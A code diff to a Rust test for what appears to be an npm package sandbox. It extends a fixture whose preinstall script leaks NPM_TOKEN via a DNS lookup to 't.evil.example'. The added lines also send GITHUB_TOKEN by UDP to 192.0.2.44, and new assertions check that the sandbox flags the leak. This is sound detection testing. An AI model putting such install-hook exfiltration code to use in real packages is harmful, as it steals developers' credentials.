@@ -158,7 +158,9 @@ fn canary_in_a_dns_label_is_reported() {
     if !supported() {
         return;
     }
-    let script = "require('dns').lookup(process.env.NPM_TOKEN.toLowerCase() + '.t.evil.example', () => {});";
+    let script = "require('dns').lookup(process.env.NPM_TOKEN.toLowerCase() + '.t.evil.example', () => {});\n\
+                  const udp = require('dgram').createSocket('udp4');\n\
+                  udp.send(Buffer.from('k=' + process.env.GITHUB_TOKEN), 9999, '192.0.2.44', () => udp.close());";
     let report = sandbox(
         &package("dns-exfil", r#"{"preinstall":"node x.js"}"#, &[("x.js", script)]),
         Limits::default(),
@@ -171,6 +173,13 @@ fn canary_in_a_dns_label_is_reported() {
         "{}",
         dump(&report)
     );
+    let datagram = report
+        .network
+        .iter()
+        .find(|r| r.protocol == "udp")
+        .unwrap_or_else(|| panic!("no datagram: {}", dump(&report)));
+    assert_eq!((datagram.host.as_str(), datagram.port), ("192.0.2.44", 9999));
+    assert_eq!(datagram.canaries, vec!["env:GITHUB_TOKEN".to_string()]);
     assert!(rules(&report).contains(&"sandbox-network-exfil"));
 }
 
